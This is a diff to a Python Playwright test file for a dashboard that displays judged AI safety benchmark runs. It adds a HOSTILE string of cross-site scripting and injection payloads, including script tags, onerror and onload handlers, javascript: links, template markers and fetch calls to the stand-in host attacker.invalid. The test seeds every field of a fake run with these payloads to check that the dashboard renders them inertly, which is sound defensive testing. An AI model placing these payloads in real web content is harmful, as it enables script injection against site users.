@@ -4,39 +4,79 @@ from __future__ import annotations
 
 import io
 import re
-from collections.abc import Iterator
+from collections.abc import Iterator, Mapping, Sequence
 from pathlib import Path
+from typing import Any
 from urllib.parse import urlencode
 
+import pyarrow as pa
 import pytest
 from axe_playwright_python.sync_playwright import Axe
 from PIL import Image
 from playwright.sync_api import Browser, Dialog, Page, expect
 
-from siuo_dash.store.catalogue_file import read_catalogue
 from tests.browser.conftest import OpenPage
 from tests.browser.driver import served, settled
-from tests.make.inspect_stores import HOSTILE, data_folder, hostile_run, publish_run, run_table, sentences
+from tests.make.runs import IDS, LAB, OfResponse, judged_run, sentences
+from tests.make.stores import make_data
 
 GOOD, BAD = "Good-7B · example-judge-1", "Bad-7B · example-judge-1"
 EVIL = "Hostile <b>7B</b> · example-judge-1"
 OWN_FAILURES = (3005, 5002, 9001)
 """What the bad run fails and all others pass; it also fails 1001, as everybody does."""
+FAILED = {1001, *OWN_FAILURES}
+HOSTILE = """<script>window.ran = true; fetch("http://attacker.invalid/script")</script>
+<img src="http://attacker.invalid/pixel.png" onerror="window.ran = true">
+<iframe src="http://attacker.invalid/frame"></iframe><svg onload="window.ran = true"></svg>
+![a picture](http://attacker.invalid/markdown.png) [a link](javascript:window.ran=true) <https://attacker.invalid/auto>
+https://attacker.invalid/bare
+
+# A heading
+**bold** *italic* :red[red] :material/delete: $\\frac{1}{2}$ &lt;entity&gt; `code`
+```html
+<b>inside a fence</b>
+```
+| a | b |
+|---|---|
+| 1 | 2 |
+- item
+<details open><summary>summary</summary>hidden</details>
+{{7*7}} ${window.ran = true} </code></pre></div><h1 id="injected">injected</h1>
+\u202eright to left\u202c and\ttab \x07 bell"""
+"""Every way in which a text could become more than characters; attacker.invalid can never resolve."""
+
+
+def made(model: str, verdicts: Mapping[int, Sequence[OfResponse]], **about: Any) -> pa.Table:
+    return judged_run(model, "example-judge-1", verdicts, examined=True, **about)
+
+
+def hostile_run(ids: Sequence[int]) -> pa.Table:
+    """A run whose every text, every word of a judge, and everything its uploader wrote about it, is an attack."""
+    about = {
+        "organization": '<img src="http://attacker.invalid/o.png">',
+        "note": HOSTILE,
+        "source": "javascript:window.ran=true <script>window.ran = true</script>",
+        "submitted_by": "![x](http://attacker.invalid/by.png)",
+    }
+    return made(
+        "Hostile <b>7B</b>",
+        {question_id: [(False, True), (False, False), (True, True)] for question_id in ids},
+        text=lambda question_id, place: f"{question_id}.{place}\n{HOSTILE}",
+        words=lambda question_id, place: f"[Safety Judgement:] False {HOSTILE}",
+        **(LAB | about),
+    )
 
 
 @pytest.fixture(scope="module")
 def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    folder = data_folder(tmp_path_factory.mktemp("browser"), shipped=True)
-    ids = [sample.question_id for sample in read_catalogue(folder / "samples.csv").samples]
     yes, no = [(True, True)] * 3, [(False, True)] * 3
-    publish_run(
-        folder, run_table("Good-7B", {each: no if each == 1001 else yes for each in ids}, text=sentences("Good-7B"))
+    folder = make_data(
+        tmp_path_factory.mktemp("browser"),
+        made("Good-7B", {each: no if each == 1001 else yes for each in IDS}, text=sentences("Good-7B"), **LAB),
+        made("Bad-7B", {each: no if each in FAILED else yes for each in IDS}, text=sentences("Bad-7B"), **LAB),
+        hostile_run([1001, *IDS[5:9]]),
+        shipped=True,
     )
-    failed = {1001, *OWN_FAILURES}
-    publish_run(
-        folder, run_table("Bad-7B", {each: no if each in failed else yes for each in ids}, text=sentences("Bad-7B"))
-    )
-    publish_run(folder, hostile_run([1001, *ids[5:9]]))
     pictures = folder / "benchmark" / "images"
     pictures.mkdir(parents=True)
     body = io.BytesIO()
